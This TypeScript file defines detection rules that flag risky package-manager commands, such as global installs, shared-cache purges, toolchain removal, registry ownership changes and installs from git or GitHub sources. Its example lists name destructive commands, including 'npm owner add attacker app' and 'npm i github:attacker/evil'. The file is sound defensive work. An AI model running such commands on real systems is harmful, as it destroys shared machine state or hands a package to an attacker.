// Package managers reach past the project: their caches and stores are shared by every project on the machine,
// a global or environment uninstall removes tools other work depends on, a registry's owner and access lists
// decide who may publish, and a dependency named by a repository or a bare host path installs code no registry
// has vetted (its install scripts run here). None of it is undone by the project's own history.
import type { Sub } from '../types';
import type { Rule } from './types';

/** The words after the program that are not options (null: only known at run time). */
function verbs(s: Sub, from = 1): (string | null)[] {
  const out: (string | null)[] = [];
  for (let i = from; i < s.words.length; i++) {
    const v = s.words[i].value;
    if (v !== null && v.startsWith('-')) continue;
    out.push(v);
  }
  return out;
}

/** The word is the value of a separate `--registry` option. */
function registryValue(s: Sub, v: string): boolean {
  return s.words.some((w, i) => w.value === v && i > 1 && s.words[i - 1].value === '--registry');
}

function hasOpt(s: Sub, re: RegExp): boolean {
  return s.words.some((w, i) => i > 0 && w.value !== null && re.test(w.value));
}

const GLOBAL = /^(-g|--global|--location=global|-[a-zA-Z]*g[a-zA-Z]*)$/;
const PY = /^python(3(\.\d+)?)?$/;
const NODE_PMS = ['npm', 'pnpm', 'yarn', 'bun'];
const PM_NAMES: ReadonlySet<string> = new Set([
  'npm',
  'pnpm',
  'yarn',
  'bun',
  'pip',
  'pip3',
  'python',
  'python3',
  'go',
  'cargo',
  'rustup',
  'conda',
  'mamba',
  'micromamba',
  'nvm',
  'fnm',
  'volta',
  'pyenv',
  'rbenv',
  'nodenv',
  'asdf',
  'sdk',
  'pipx',
  'gem',
  'brew',
  'composer',
  'dotnet',
  'poetry',
  'uv',
  'deno',
  'ansible-galaxy',
  'jupyter',
  'jupyter-kernelspec',
]);

/** npm/pnpm/bun verbs that install or update packages (npm's abbreviations and typos included). */
const NODE_ADD = /^(install|i|in|ins|inst|insta|instal|isnt|isnta|isntal|isntall|add|update|up|upgrade|udpate|link|ln)$/;

/**
 * A global install puts a package's commands on every project's PATH (beside, or in place of, the tools already
 * there) and runs its install scripts outside the project: machine state no project history undoes.
 */
function globalInstall(what: string): string {
  return `${what} installs tools machine-wide: their commands join every project's PATH and their install scripts run outside the project`;
}

/** `python -m pip …` is pip: the words after the module. */
function pipWords(s: Sub): (string | null)[] | undefined {
  const name = s.name ?? '';
  if (/^pip(3(\.\d+)?)?$/.test(name)) return verbs(s);
  if (!PY.test(name)) return undefined;
  const m = s.words.findIndex((w) => w.value === '-m');
  if (m < 0 || s.words[m + 1]?.value !== 'pip') return undefined;
  return verbs(s, m + 2);
}

function globalState(s: Sub): string | undefined {
  const name = s.name ?? '';
  const v = verbs(s);
  const [a, b] = v;
  const pip = pipWords(s);
  if (pip !== undefined) {
    if (pip[0] === 'cache' && /^(purge|remove|rm)$/.test(pip[1] ?? ''))
      return `pip cache ${pip[1]} deletes the download cache every project on the machine shares`;
    if (pip[0] === 'uninstall') return 'pip uninstall removes packages from the Python environment, outside the project';
    if (pip[0] === 'install' && hasOpt(s, /^--break-system-packages$/))
      return 'pip install --break-system-packages changes the system Python the operating system’s own tools use';
    // `pip install --user x`: into ~/.local, imported by every later python of this user, its scripts on PATH.
    if (pip[0] === 'install' && hasOpt(s, /^--user$/))
      return 'pip install --user installs into ~/.local, outside the project: every later python of this user imports it and its commands join PATH';
    return undefined;
  }
  if (PY.test(name)) {
    const script = s.words[1]?.value ?? '';
    if (/(^|\/)setup\.py$/.test(script) && v.slice(1).some((x) => x !== null && /^(install|develop)$/.test(x)))
      return `${name} setup.py ${v.find((x) => x === 'install' || x === 'develop')} runs the project's setup code and installs into the Python environment, outside the project`;
    return undefined;
  }
  switch (name) {
    case 'npm':
      if (a !== null && NODE_ADD.test(a ?? '') && hasOpt(s, GLOBAL)) return globalInstall(`npm ${a} -g`);
      // `npm link` puts this package in the global folder (its bins on every PATH); `npm link x` links a global
      // package into node_modules, installing it globally first when absent: -g or not, the global folder changes.
      if (/^(link|ln)$/.test(a ?? '')) return globalInstall(`npm ${a}`);
      if (a === 'cache' && /^(clean|clear|rm)$/.test(b ?? '')) return `npm cache ${b} deletes the package cache every project on the machine shares`;
      if (a !== null && /^(uninstall|un|unlink|remove|rm|r)$/.test(a ?? '') && hasOpt(s, GLOBAL)) return `npm ${a} -g removes a globally installed tool`;
      return undefined;
    case 'pnpm':
      if (a !== null && NODE_ADD.test(a ?? '') && hasOpt(s, GLOBAL)) return globalInstall(`pnpm ${a} -g`);
      if (/^(link|ln)$/.test(a ?? '') && (hasOpt(s, GLOBAL) || b === undefined)) return globalInstall(`pnpm ${a}`);
      if (a === 'store' && b === 'prune') return 'pnpm store prune deletes packages from the store every project on the machine shares';
      if (a === 'cache' && /^(delete|clean)$/.test(b ?? '')) return `pnpm cache ${b} deletes the shared metadata cache`;
      if (/^(remove|rm|uninstall|un)$/.test(a ?? '') && hasOpt(s, GLOBAL)) return `pnpm ${a} -g removes a globally installed tool`;
      return undefined;
    case 'yarn':
      if (a === 'global' && /^(add|upgrade|upgrade-interactive)$/.test(b ?? '')) return globalInstall(`yarn global ${b}`);
      // Yarn 1's `yarn link` registers the package in the user's link folder for every project to link.
      if (a === 'link' && b === undefined) return globalInstall('yarn link');
      if (a === 'cache' && /^(clean|clear)$/.test(b ?? '')) return `yarn cache ${b} deletes the package cache every project on the machine shares`;
      if (a === 'global' && /^(remove|rm)$/.test(b ?? '')) return 'yarn global remove removes a globally installed tool';
      return undefined;
    case 'bun':
      if (a !== null && NODE_ADD.test(a ?? '') && hasOpt(s, GLOBAL)) return globalInstall(`bun ${a} -g`);
      if (a === 'pm' && b === 'cache' && /^(rm|clean)$/.test(v[2] ?? '')) return 'bun pm cache rm deletes the shared package cache';
      if (/^(remove|rm|uninstall)$/.test(a ?? '') && hasOpt(s, GLOBAL)) return `bun ${a} -g removes a globally installed tool`;
      return undefined;
    case 'go':
      if (a === 'clean' && hasOpt(s, /^-(modcache|fuzzcache)$/))
        return 'go clean -modcache deletes the downloaded modules every Go project on the machine shares';
      return undefined;
    case 'cargo':
      if (a === 'uninstall') return 'cargo uninstall removes an installed tool from ~/.cargo/bin';
      return undefined;
    case 'rustup':
      if ((a === 'self' && b === 'uninstall') || (/^(toolchain|component|target)$/.test(a ?? '') && /^(uninstall|remove)$/.test(b ?? '')) || a === 'uninstall')
        return `rustup ${v.slice(0, 2).join(' ')} removes an installed Rust toolchain or rustup itself`;
      return undefined;
    case 'conda':
    case 'mamba':
    case 'micromamba':
      if ((a === 'env' && /^(remove|delete)$/.test(b ?? '')) || /^(remove|uninstall|clean)$/.test(a ?? ''))
        return `${name} ${v.slice(0, a === 'env' ? 2 : 1).join(' ')} removes packages, environments or caches outside the project`;
      return undefined;
    case 'nvm':
    case 'fnm':
    case 'volta':
    case 'pyenv':
    case 'rbenv':
    case 'nodenv':
    case 'asdf':
    case 'sdk':
    case 'pipx':
    case 'gem':
      if (/^(uninstall|uninstall-all|remove|rm|cleanup)$/.test(a ?? '')) return `${name} ${a} removes installed runtimes or tools outside the project`;
      return undefined;
    case 'brew':
      if (/^(uninstall|remove|rm|autoremove|untap|cleanup)$/.test(a ?? '')) return `brew ${a} removes installed software from the machine`;
      return undefined;
    case 'composer':
      if (a === 'global' && /^(require|req|install|i|update|u|upgrade)$/.test(b ?? '')) return globalInstall(`composer global ${b}`);
      if ((a === 'global' && /^(remove|rm|uninstall)$/.test(b ?? '')) || /^(clear-cache|clearcache|cc)$/.test(a ?? ''))
        return `composer ${v.slice(0, a === 'global' ? 2 : 1).join(' ')} changes the machine-wide Composer state`;
      return undefined;
    case 'dotnet':
      if (a === 'tool' && /^(install|update)$/.test(b ?? '') && hasOpt(s, /^(-g|--global)$/)) return globalInstall(`dotnet tool ${b} -g`);
      if (a === 'tool' && b === 'uninstall' && hasOpt(s, /^(-g|--global)$/)) return 'dotnet tool uninstall -g removes a global tool';
      if (a === 'nuget' && b === 'locals' && hasOpt(s, /^(-c|--clear)$/)) return 'dotnet nuget locals --clear deletes the shared package caches';
      return undefined;
    case 'poetry':
      if (a === 'cache' && b === 'clear') return 'poetry cache clear deletes the shared package cache';
      return undefined;
    case 'uv':
      if (a === 'cache' && /^(clean|prune)$/.test(b ?? '')) return `uv cache ${b} deletes the shared package cache`;
      return undefined;
    // `deno install -g` is `npm install -g`: a command on every project's PATH, whatever it installs.
    case 'deno':
      if (/^(install|i)$/.test(a ?? '') && hasOpt(s, GLOBAL)) return globalInstall(`deno ${a} -g`);
      if (/^(uninstall|un)$/.test(a ?? '') && hasOpt(s, GLOBAL)) return `deno ${a} -g removes a globally installed tool`;
      return undefined;
    // Roles and collections go to the user's Ansible folders (~/.ansible) unless a path inside the project is named:
    // their tasks, modules and plugins run at every later playbook, in every project.
    case 'ansible-galaxy': {
      const install = a === 'install' || (/^(role|collection)$/.test(a ?? '') && b === 'install');
      if (!install) return undefined;
      const at = s.words.findIndex((w) => w.value !== null && /^(-p|--roles-path|--collections-path|--path)(=|$)/.test(w.value));
      const to = at < 0 ? undefined : s.words[at].value!.includes('=') ? s.words[at].value!.split('=')[1] : (s.words[at + 1]?.value ?? null);
      if (typeof to === 'string' && to !== '' && !/^(\/|~|\.\.(\/|$)|\$)/.test(to)) return undefined;
      return 'ansible-galaxy install puts roles or collections in the Ansible folders outside the project: their tasks, modules and plugins run at every later playbook, in every project';
    }
    // A kernel spec's kernel.json argv is the command Jupyter runs whenever a notebook starts that kernel.
    case 'jupyter':
    case 'jupyter-kernelspec': {
      const w = name === 'jupyter' ? v.slice(1) : v;
      if ((name === 'jupyter' ? a === 'kernelspec' : true) && w[0] === 'install')
        return 'jupyter kernelspec install installs a kernel: the command its kernel.json names runs whenever a notebook starts it, in every project';
      return undefined;
    }
  }
  return undefined;
}

/** npm-package-arg's rule: a spec that is not a registry name (optionally @scope/, @version or @tag) nor a local path. */
function unvettedSpec(spec: string): boolean {
  if (/^(\.{1,2}\/|\/|~\/|file:)/.test(spec)) return false;
  // `alias@npm:pkg` is a registry package under another name.
  const at = spec.indexOf('@', spec.startsWith('@') ? 1 : 0);
  const tail = at > 0 ? spec.slice(at + 1) : '';
  if (/^(github|gitlab|bitbucket|gist|git\+[a-z]+|git|https?):/i.test(tail)) return true;
  const head = at > 0 ? spec.slice(0, at) : spec;
  if (/^(github|gitlab|bitbucket|gist|git\+[a-z]+|git|https?|ssh):/i.test(head)) return true;
  // `user/repo` (GitHub shorthand) or `host.tld/path`: a slash outside a scope.
  return !head.startsWith('@') ? head.includes('/') : head.split('/').length > 2;
}

export const pkgStateRules: Rule[] = [
  {
    id: 'pkg.global-state',
    description:
      'Changes package-manager state outside the project: purges a cache or store every project shares, installs or uninstalls a global tool (npm i -g, yarn global add, deno install -g, composer global require, dotnet tool install -g), links a package through the global folder (npm link), installs into the user’s site (pip install --user), installs Ansible roles or collections into the user’s Ansible folders or a Jupyter kernel (code that runs later, in every project), removes a runtime or an environment, or installs into the Python environment with setup.py.',
    examples: {
      destructive: [
        'npm cache clean --force',
        'yarn cache clean',
        'pnpm store prune',
        'pip cache purge',
        'go clean -modcache',
        'npm uninstall -g typescript',
        'pip uninstall -y requests',
        'python3 -m pip uninstall -y requests',
        'cargo uninstall ripgrep',
        'rustup self uninstall -y',
        'conda env remove -n base -y',
        'nvm uninstall 20',
        'brew uninstall --force node',
        'python3 setup.py install',
        'gem uninstall rails',
        'npm i -g typescript',
        'npm install --global eslint',
        'pnpm add -g tsx',
        'yarn global add serve',
        'bun add -g cowsay',
        'composer global require laravel/installer',
        'dotnet tool install -g dotnet-ef',
        'deno install -g npm:cowsay',
        'deno install -gA jsr:@std/http/file-server',
        'ansible-galaxy install geerlingguy.docker',
        'ansible-galaxy collection install community.general',
        'jupyter kernelspec install --user ./mykernel',
        'pip install --user requests',
        'python3 -m pip install --user -r requirements.txt',
        'npm link',
        'npm link ../shared',
        'pnpm link --global',
        'yarn link',
      ],
      benign: [
        'npm uninstall lodash',
        'npm cache verify',
        'pip cache list',
        'go clean -testcache',
        'go clean -cache',
        'pip list',
        'cargo install --list',
        'conda env list',
        'nvm ls',
        'brew list',
        'python3 setup.py --version',
        'yarn remove lodash',
        'pnpm remove lodash',
        'npm i -D typescript',
        'npm ls -g',
        'yarn global list',
        'dotnet tool install dotnet-ef',
        'composer require monolog/monolog',
        'deno install',
        'deno install npm:lodash',
        'ansible-galaxy install -p roles geerlingguy.docker',
        'ansible-galaxy role list',
        'jupyter kernelspec list',
        'pip install -r requirements.txt',
        'pnpm link ../shared',
        'yarn link shared',
      ],
    },
    // Checked for every sub-command (not listed by name): listing a name would make it a modelled program.
    concerns: { name: (n) => PM_NAMES.has(n ?? '') },
    check: (s) => (PM_NAMES.has(s.name ?? '') ? globalState(s) : undefined),
  },
  {
    id: 'pkg.registry-access',
    names: ['npm', 'yarn', 'pnpm'],
    description:
      'Changes who owns or may install a published package (npm owner add/rm, npm access set/grant/revoke, npm team): a registry change no local history undoes.',
    examples: {
      destructive: [
        'npm owner add attacker app',
        'npm owner rm dev app',
        'npm access set status=public app',
        'npm access grant read-write org:team app',
        'npm team destroy org:team',
      ],
      benign: ['npm owner ls app', 'npm access list packages', 'npm access get status app', 'npm team ls org', 'npm view app'],
    },
    check(s) {
      const [a, b] = verbs(s);
      if (a === 'owner' || a === 'author') return /^(add|rm|remove)$/.test(b ?? '') ? `${s.name} owner ${b} changes who may publish the package` : undefined;
      if (a === 'access')
        return b !== undefined && b !== null && !/^(ls|list|get|ls-packages|ls-collaborators)$/.test(b)
          ? `${s.name} access ${b} changes who may see or publish the package`
          : undefined;
      if (a === 'team' || a === 'org')
        return /^(create|destroy|add|rm|set)$/.test(b ?? '') ? `${s.name} ${a} ${b} changes a registry team or organisation` : undefined;
      return undefined;
    },
  },
  {
    id: 'pkg.unvetted-source',
    names: NODE_PMS,
    description:
      'Installs a JavaScript dependency named by a repository, a GitHub shorthand (user/repo), a host path or a git URL rather than a registry name: its install scripts run here and no registry has vetted it.',
    examples: {
      destructive: [
        'npm i github:attacker/evil',
        'yarn add attacker/evil',
        'pnpm add gitlab:someone/tool',
        'bun add example.invalid/x',
        'npm install "x@git+ssh://git@example.invalid/x.git"',
      ],
      benign: [
        'npm i -D @types/node',
        'npm install typescript@5',
        'yarn add react@latest',
        'pnpm add ./packages/shared',
        'npm i file:../lib',
        'npm i alias@npm:lodash',
      ],
    },
    check(s) {
      // `--registry URL`: the URL is where from (pkg.foreign-index judges it), not a package spec.
      const v = verbs(s).filter((x, i, a) => !(x !== null && i >= 0 && registryValue(s, x)));
      if (!/^(install|i|in|isntall|add|a)$/.test(v[0] ?? '')) return undefined;
      const bad = v.slice(1).find((x) => x !== null && unvettedSpec(x));
      return bad ? `${s.name} ${v[0]} ${bad} installs code from a repository or host path, not a registry package` : undefined;
    },
  },
];
